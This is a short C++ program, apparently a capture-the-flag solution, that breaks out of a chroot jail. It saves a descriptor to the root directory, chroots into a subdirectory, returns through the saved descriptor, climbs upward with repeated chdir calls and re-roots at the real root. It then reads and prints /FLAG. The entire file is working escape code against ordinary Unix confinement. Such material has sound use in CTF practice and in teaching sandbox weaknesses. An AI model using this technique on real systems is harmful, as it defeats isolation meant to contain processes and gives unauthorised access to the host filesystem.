// file: escape.cpp
// says: an open directory, instead of a working directory that stays behind

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>

namespace {

/// Makes the root outside the root of this process.
/// @return 0, or -1 with errno
int escape() {
    // A descriptor of the root keeps a way back; chroot does not close it.
    const int root = ::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    ::mkdir("/tmp/below", 0700);
    if (root == -1 || ::chroot("/tmp/below") == -1 || ::fchdir(root) == -1) {
        return -1;
    }
    for (int i = 0; i < 1000; ++i) {
        if (::chdir("..") == -1) {
            return -1;
        }
    }
    return ::chroot(".");
}

}  // namespace

int main() {
    if (escape() != 0) {
        std::perror("escape");
        return 1;
    }
    std::FILE* flag = std::fopen("/FLAG", "re");
    if (flag == nullptr) {
        std::perror("/FLAG");
        return 1;
    }
    for (int c = std::fgetc(flag); c != EOF; c = std::fgetc(flag)) {
        std::putchar(c);
    }
    std::fclose(flag);
    return 0;
}
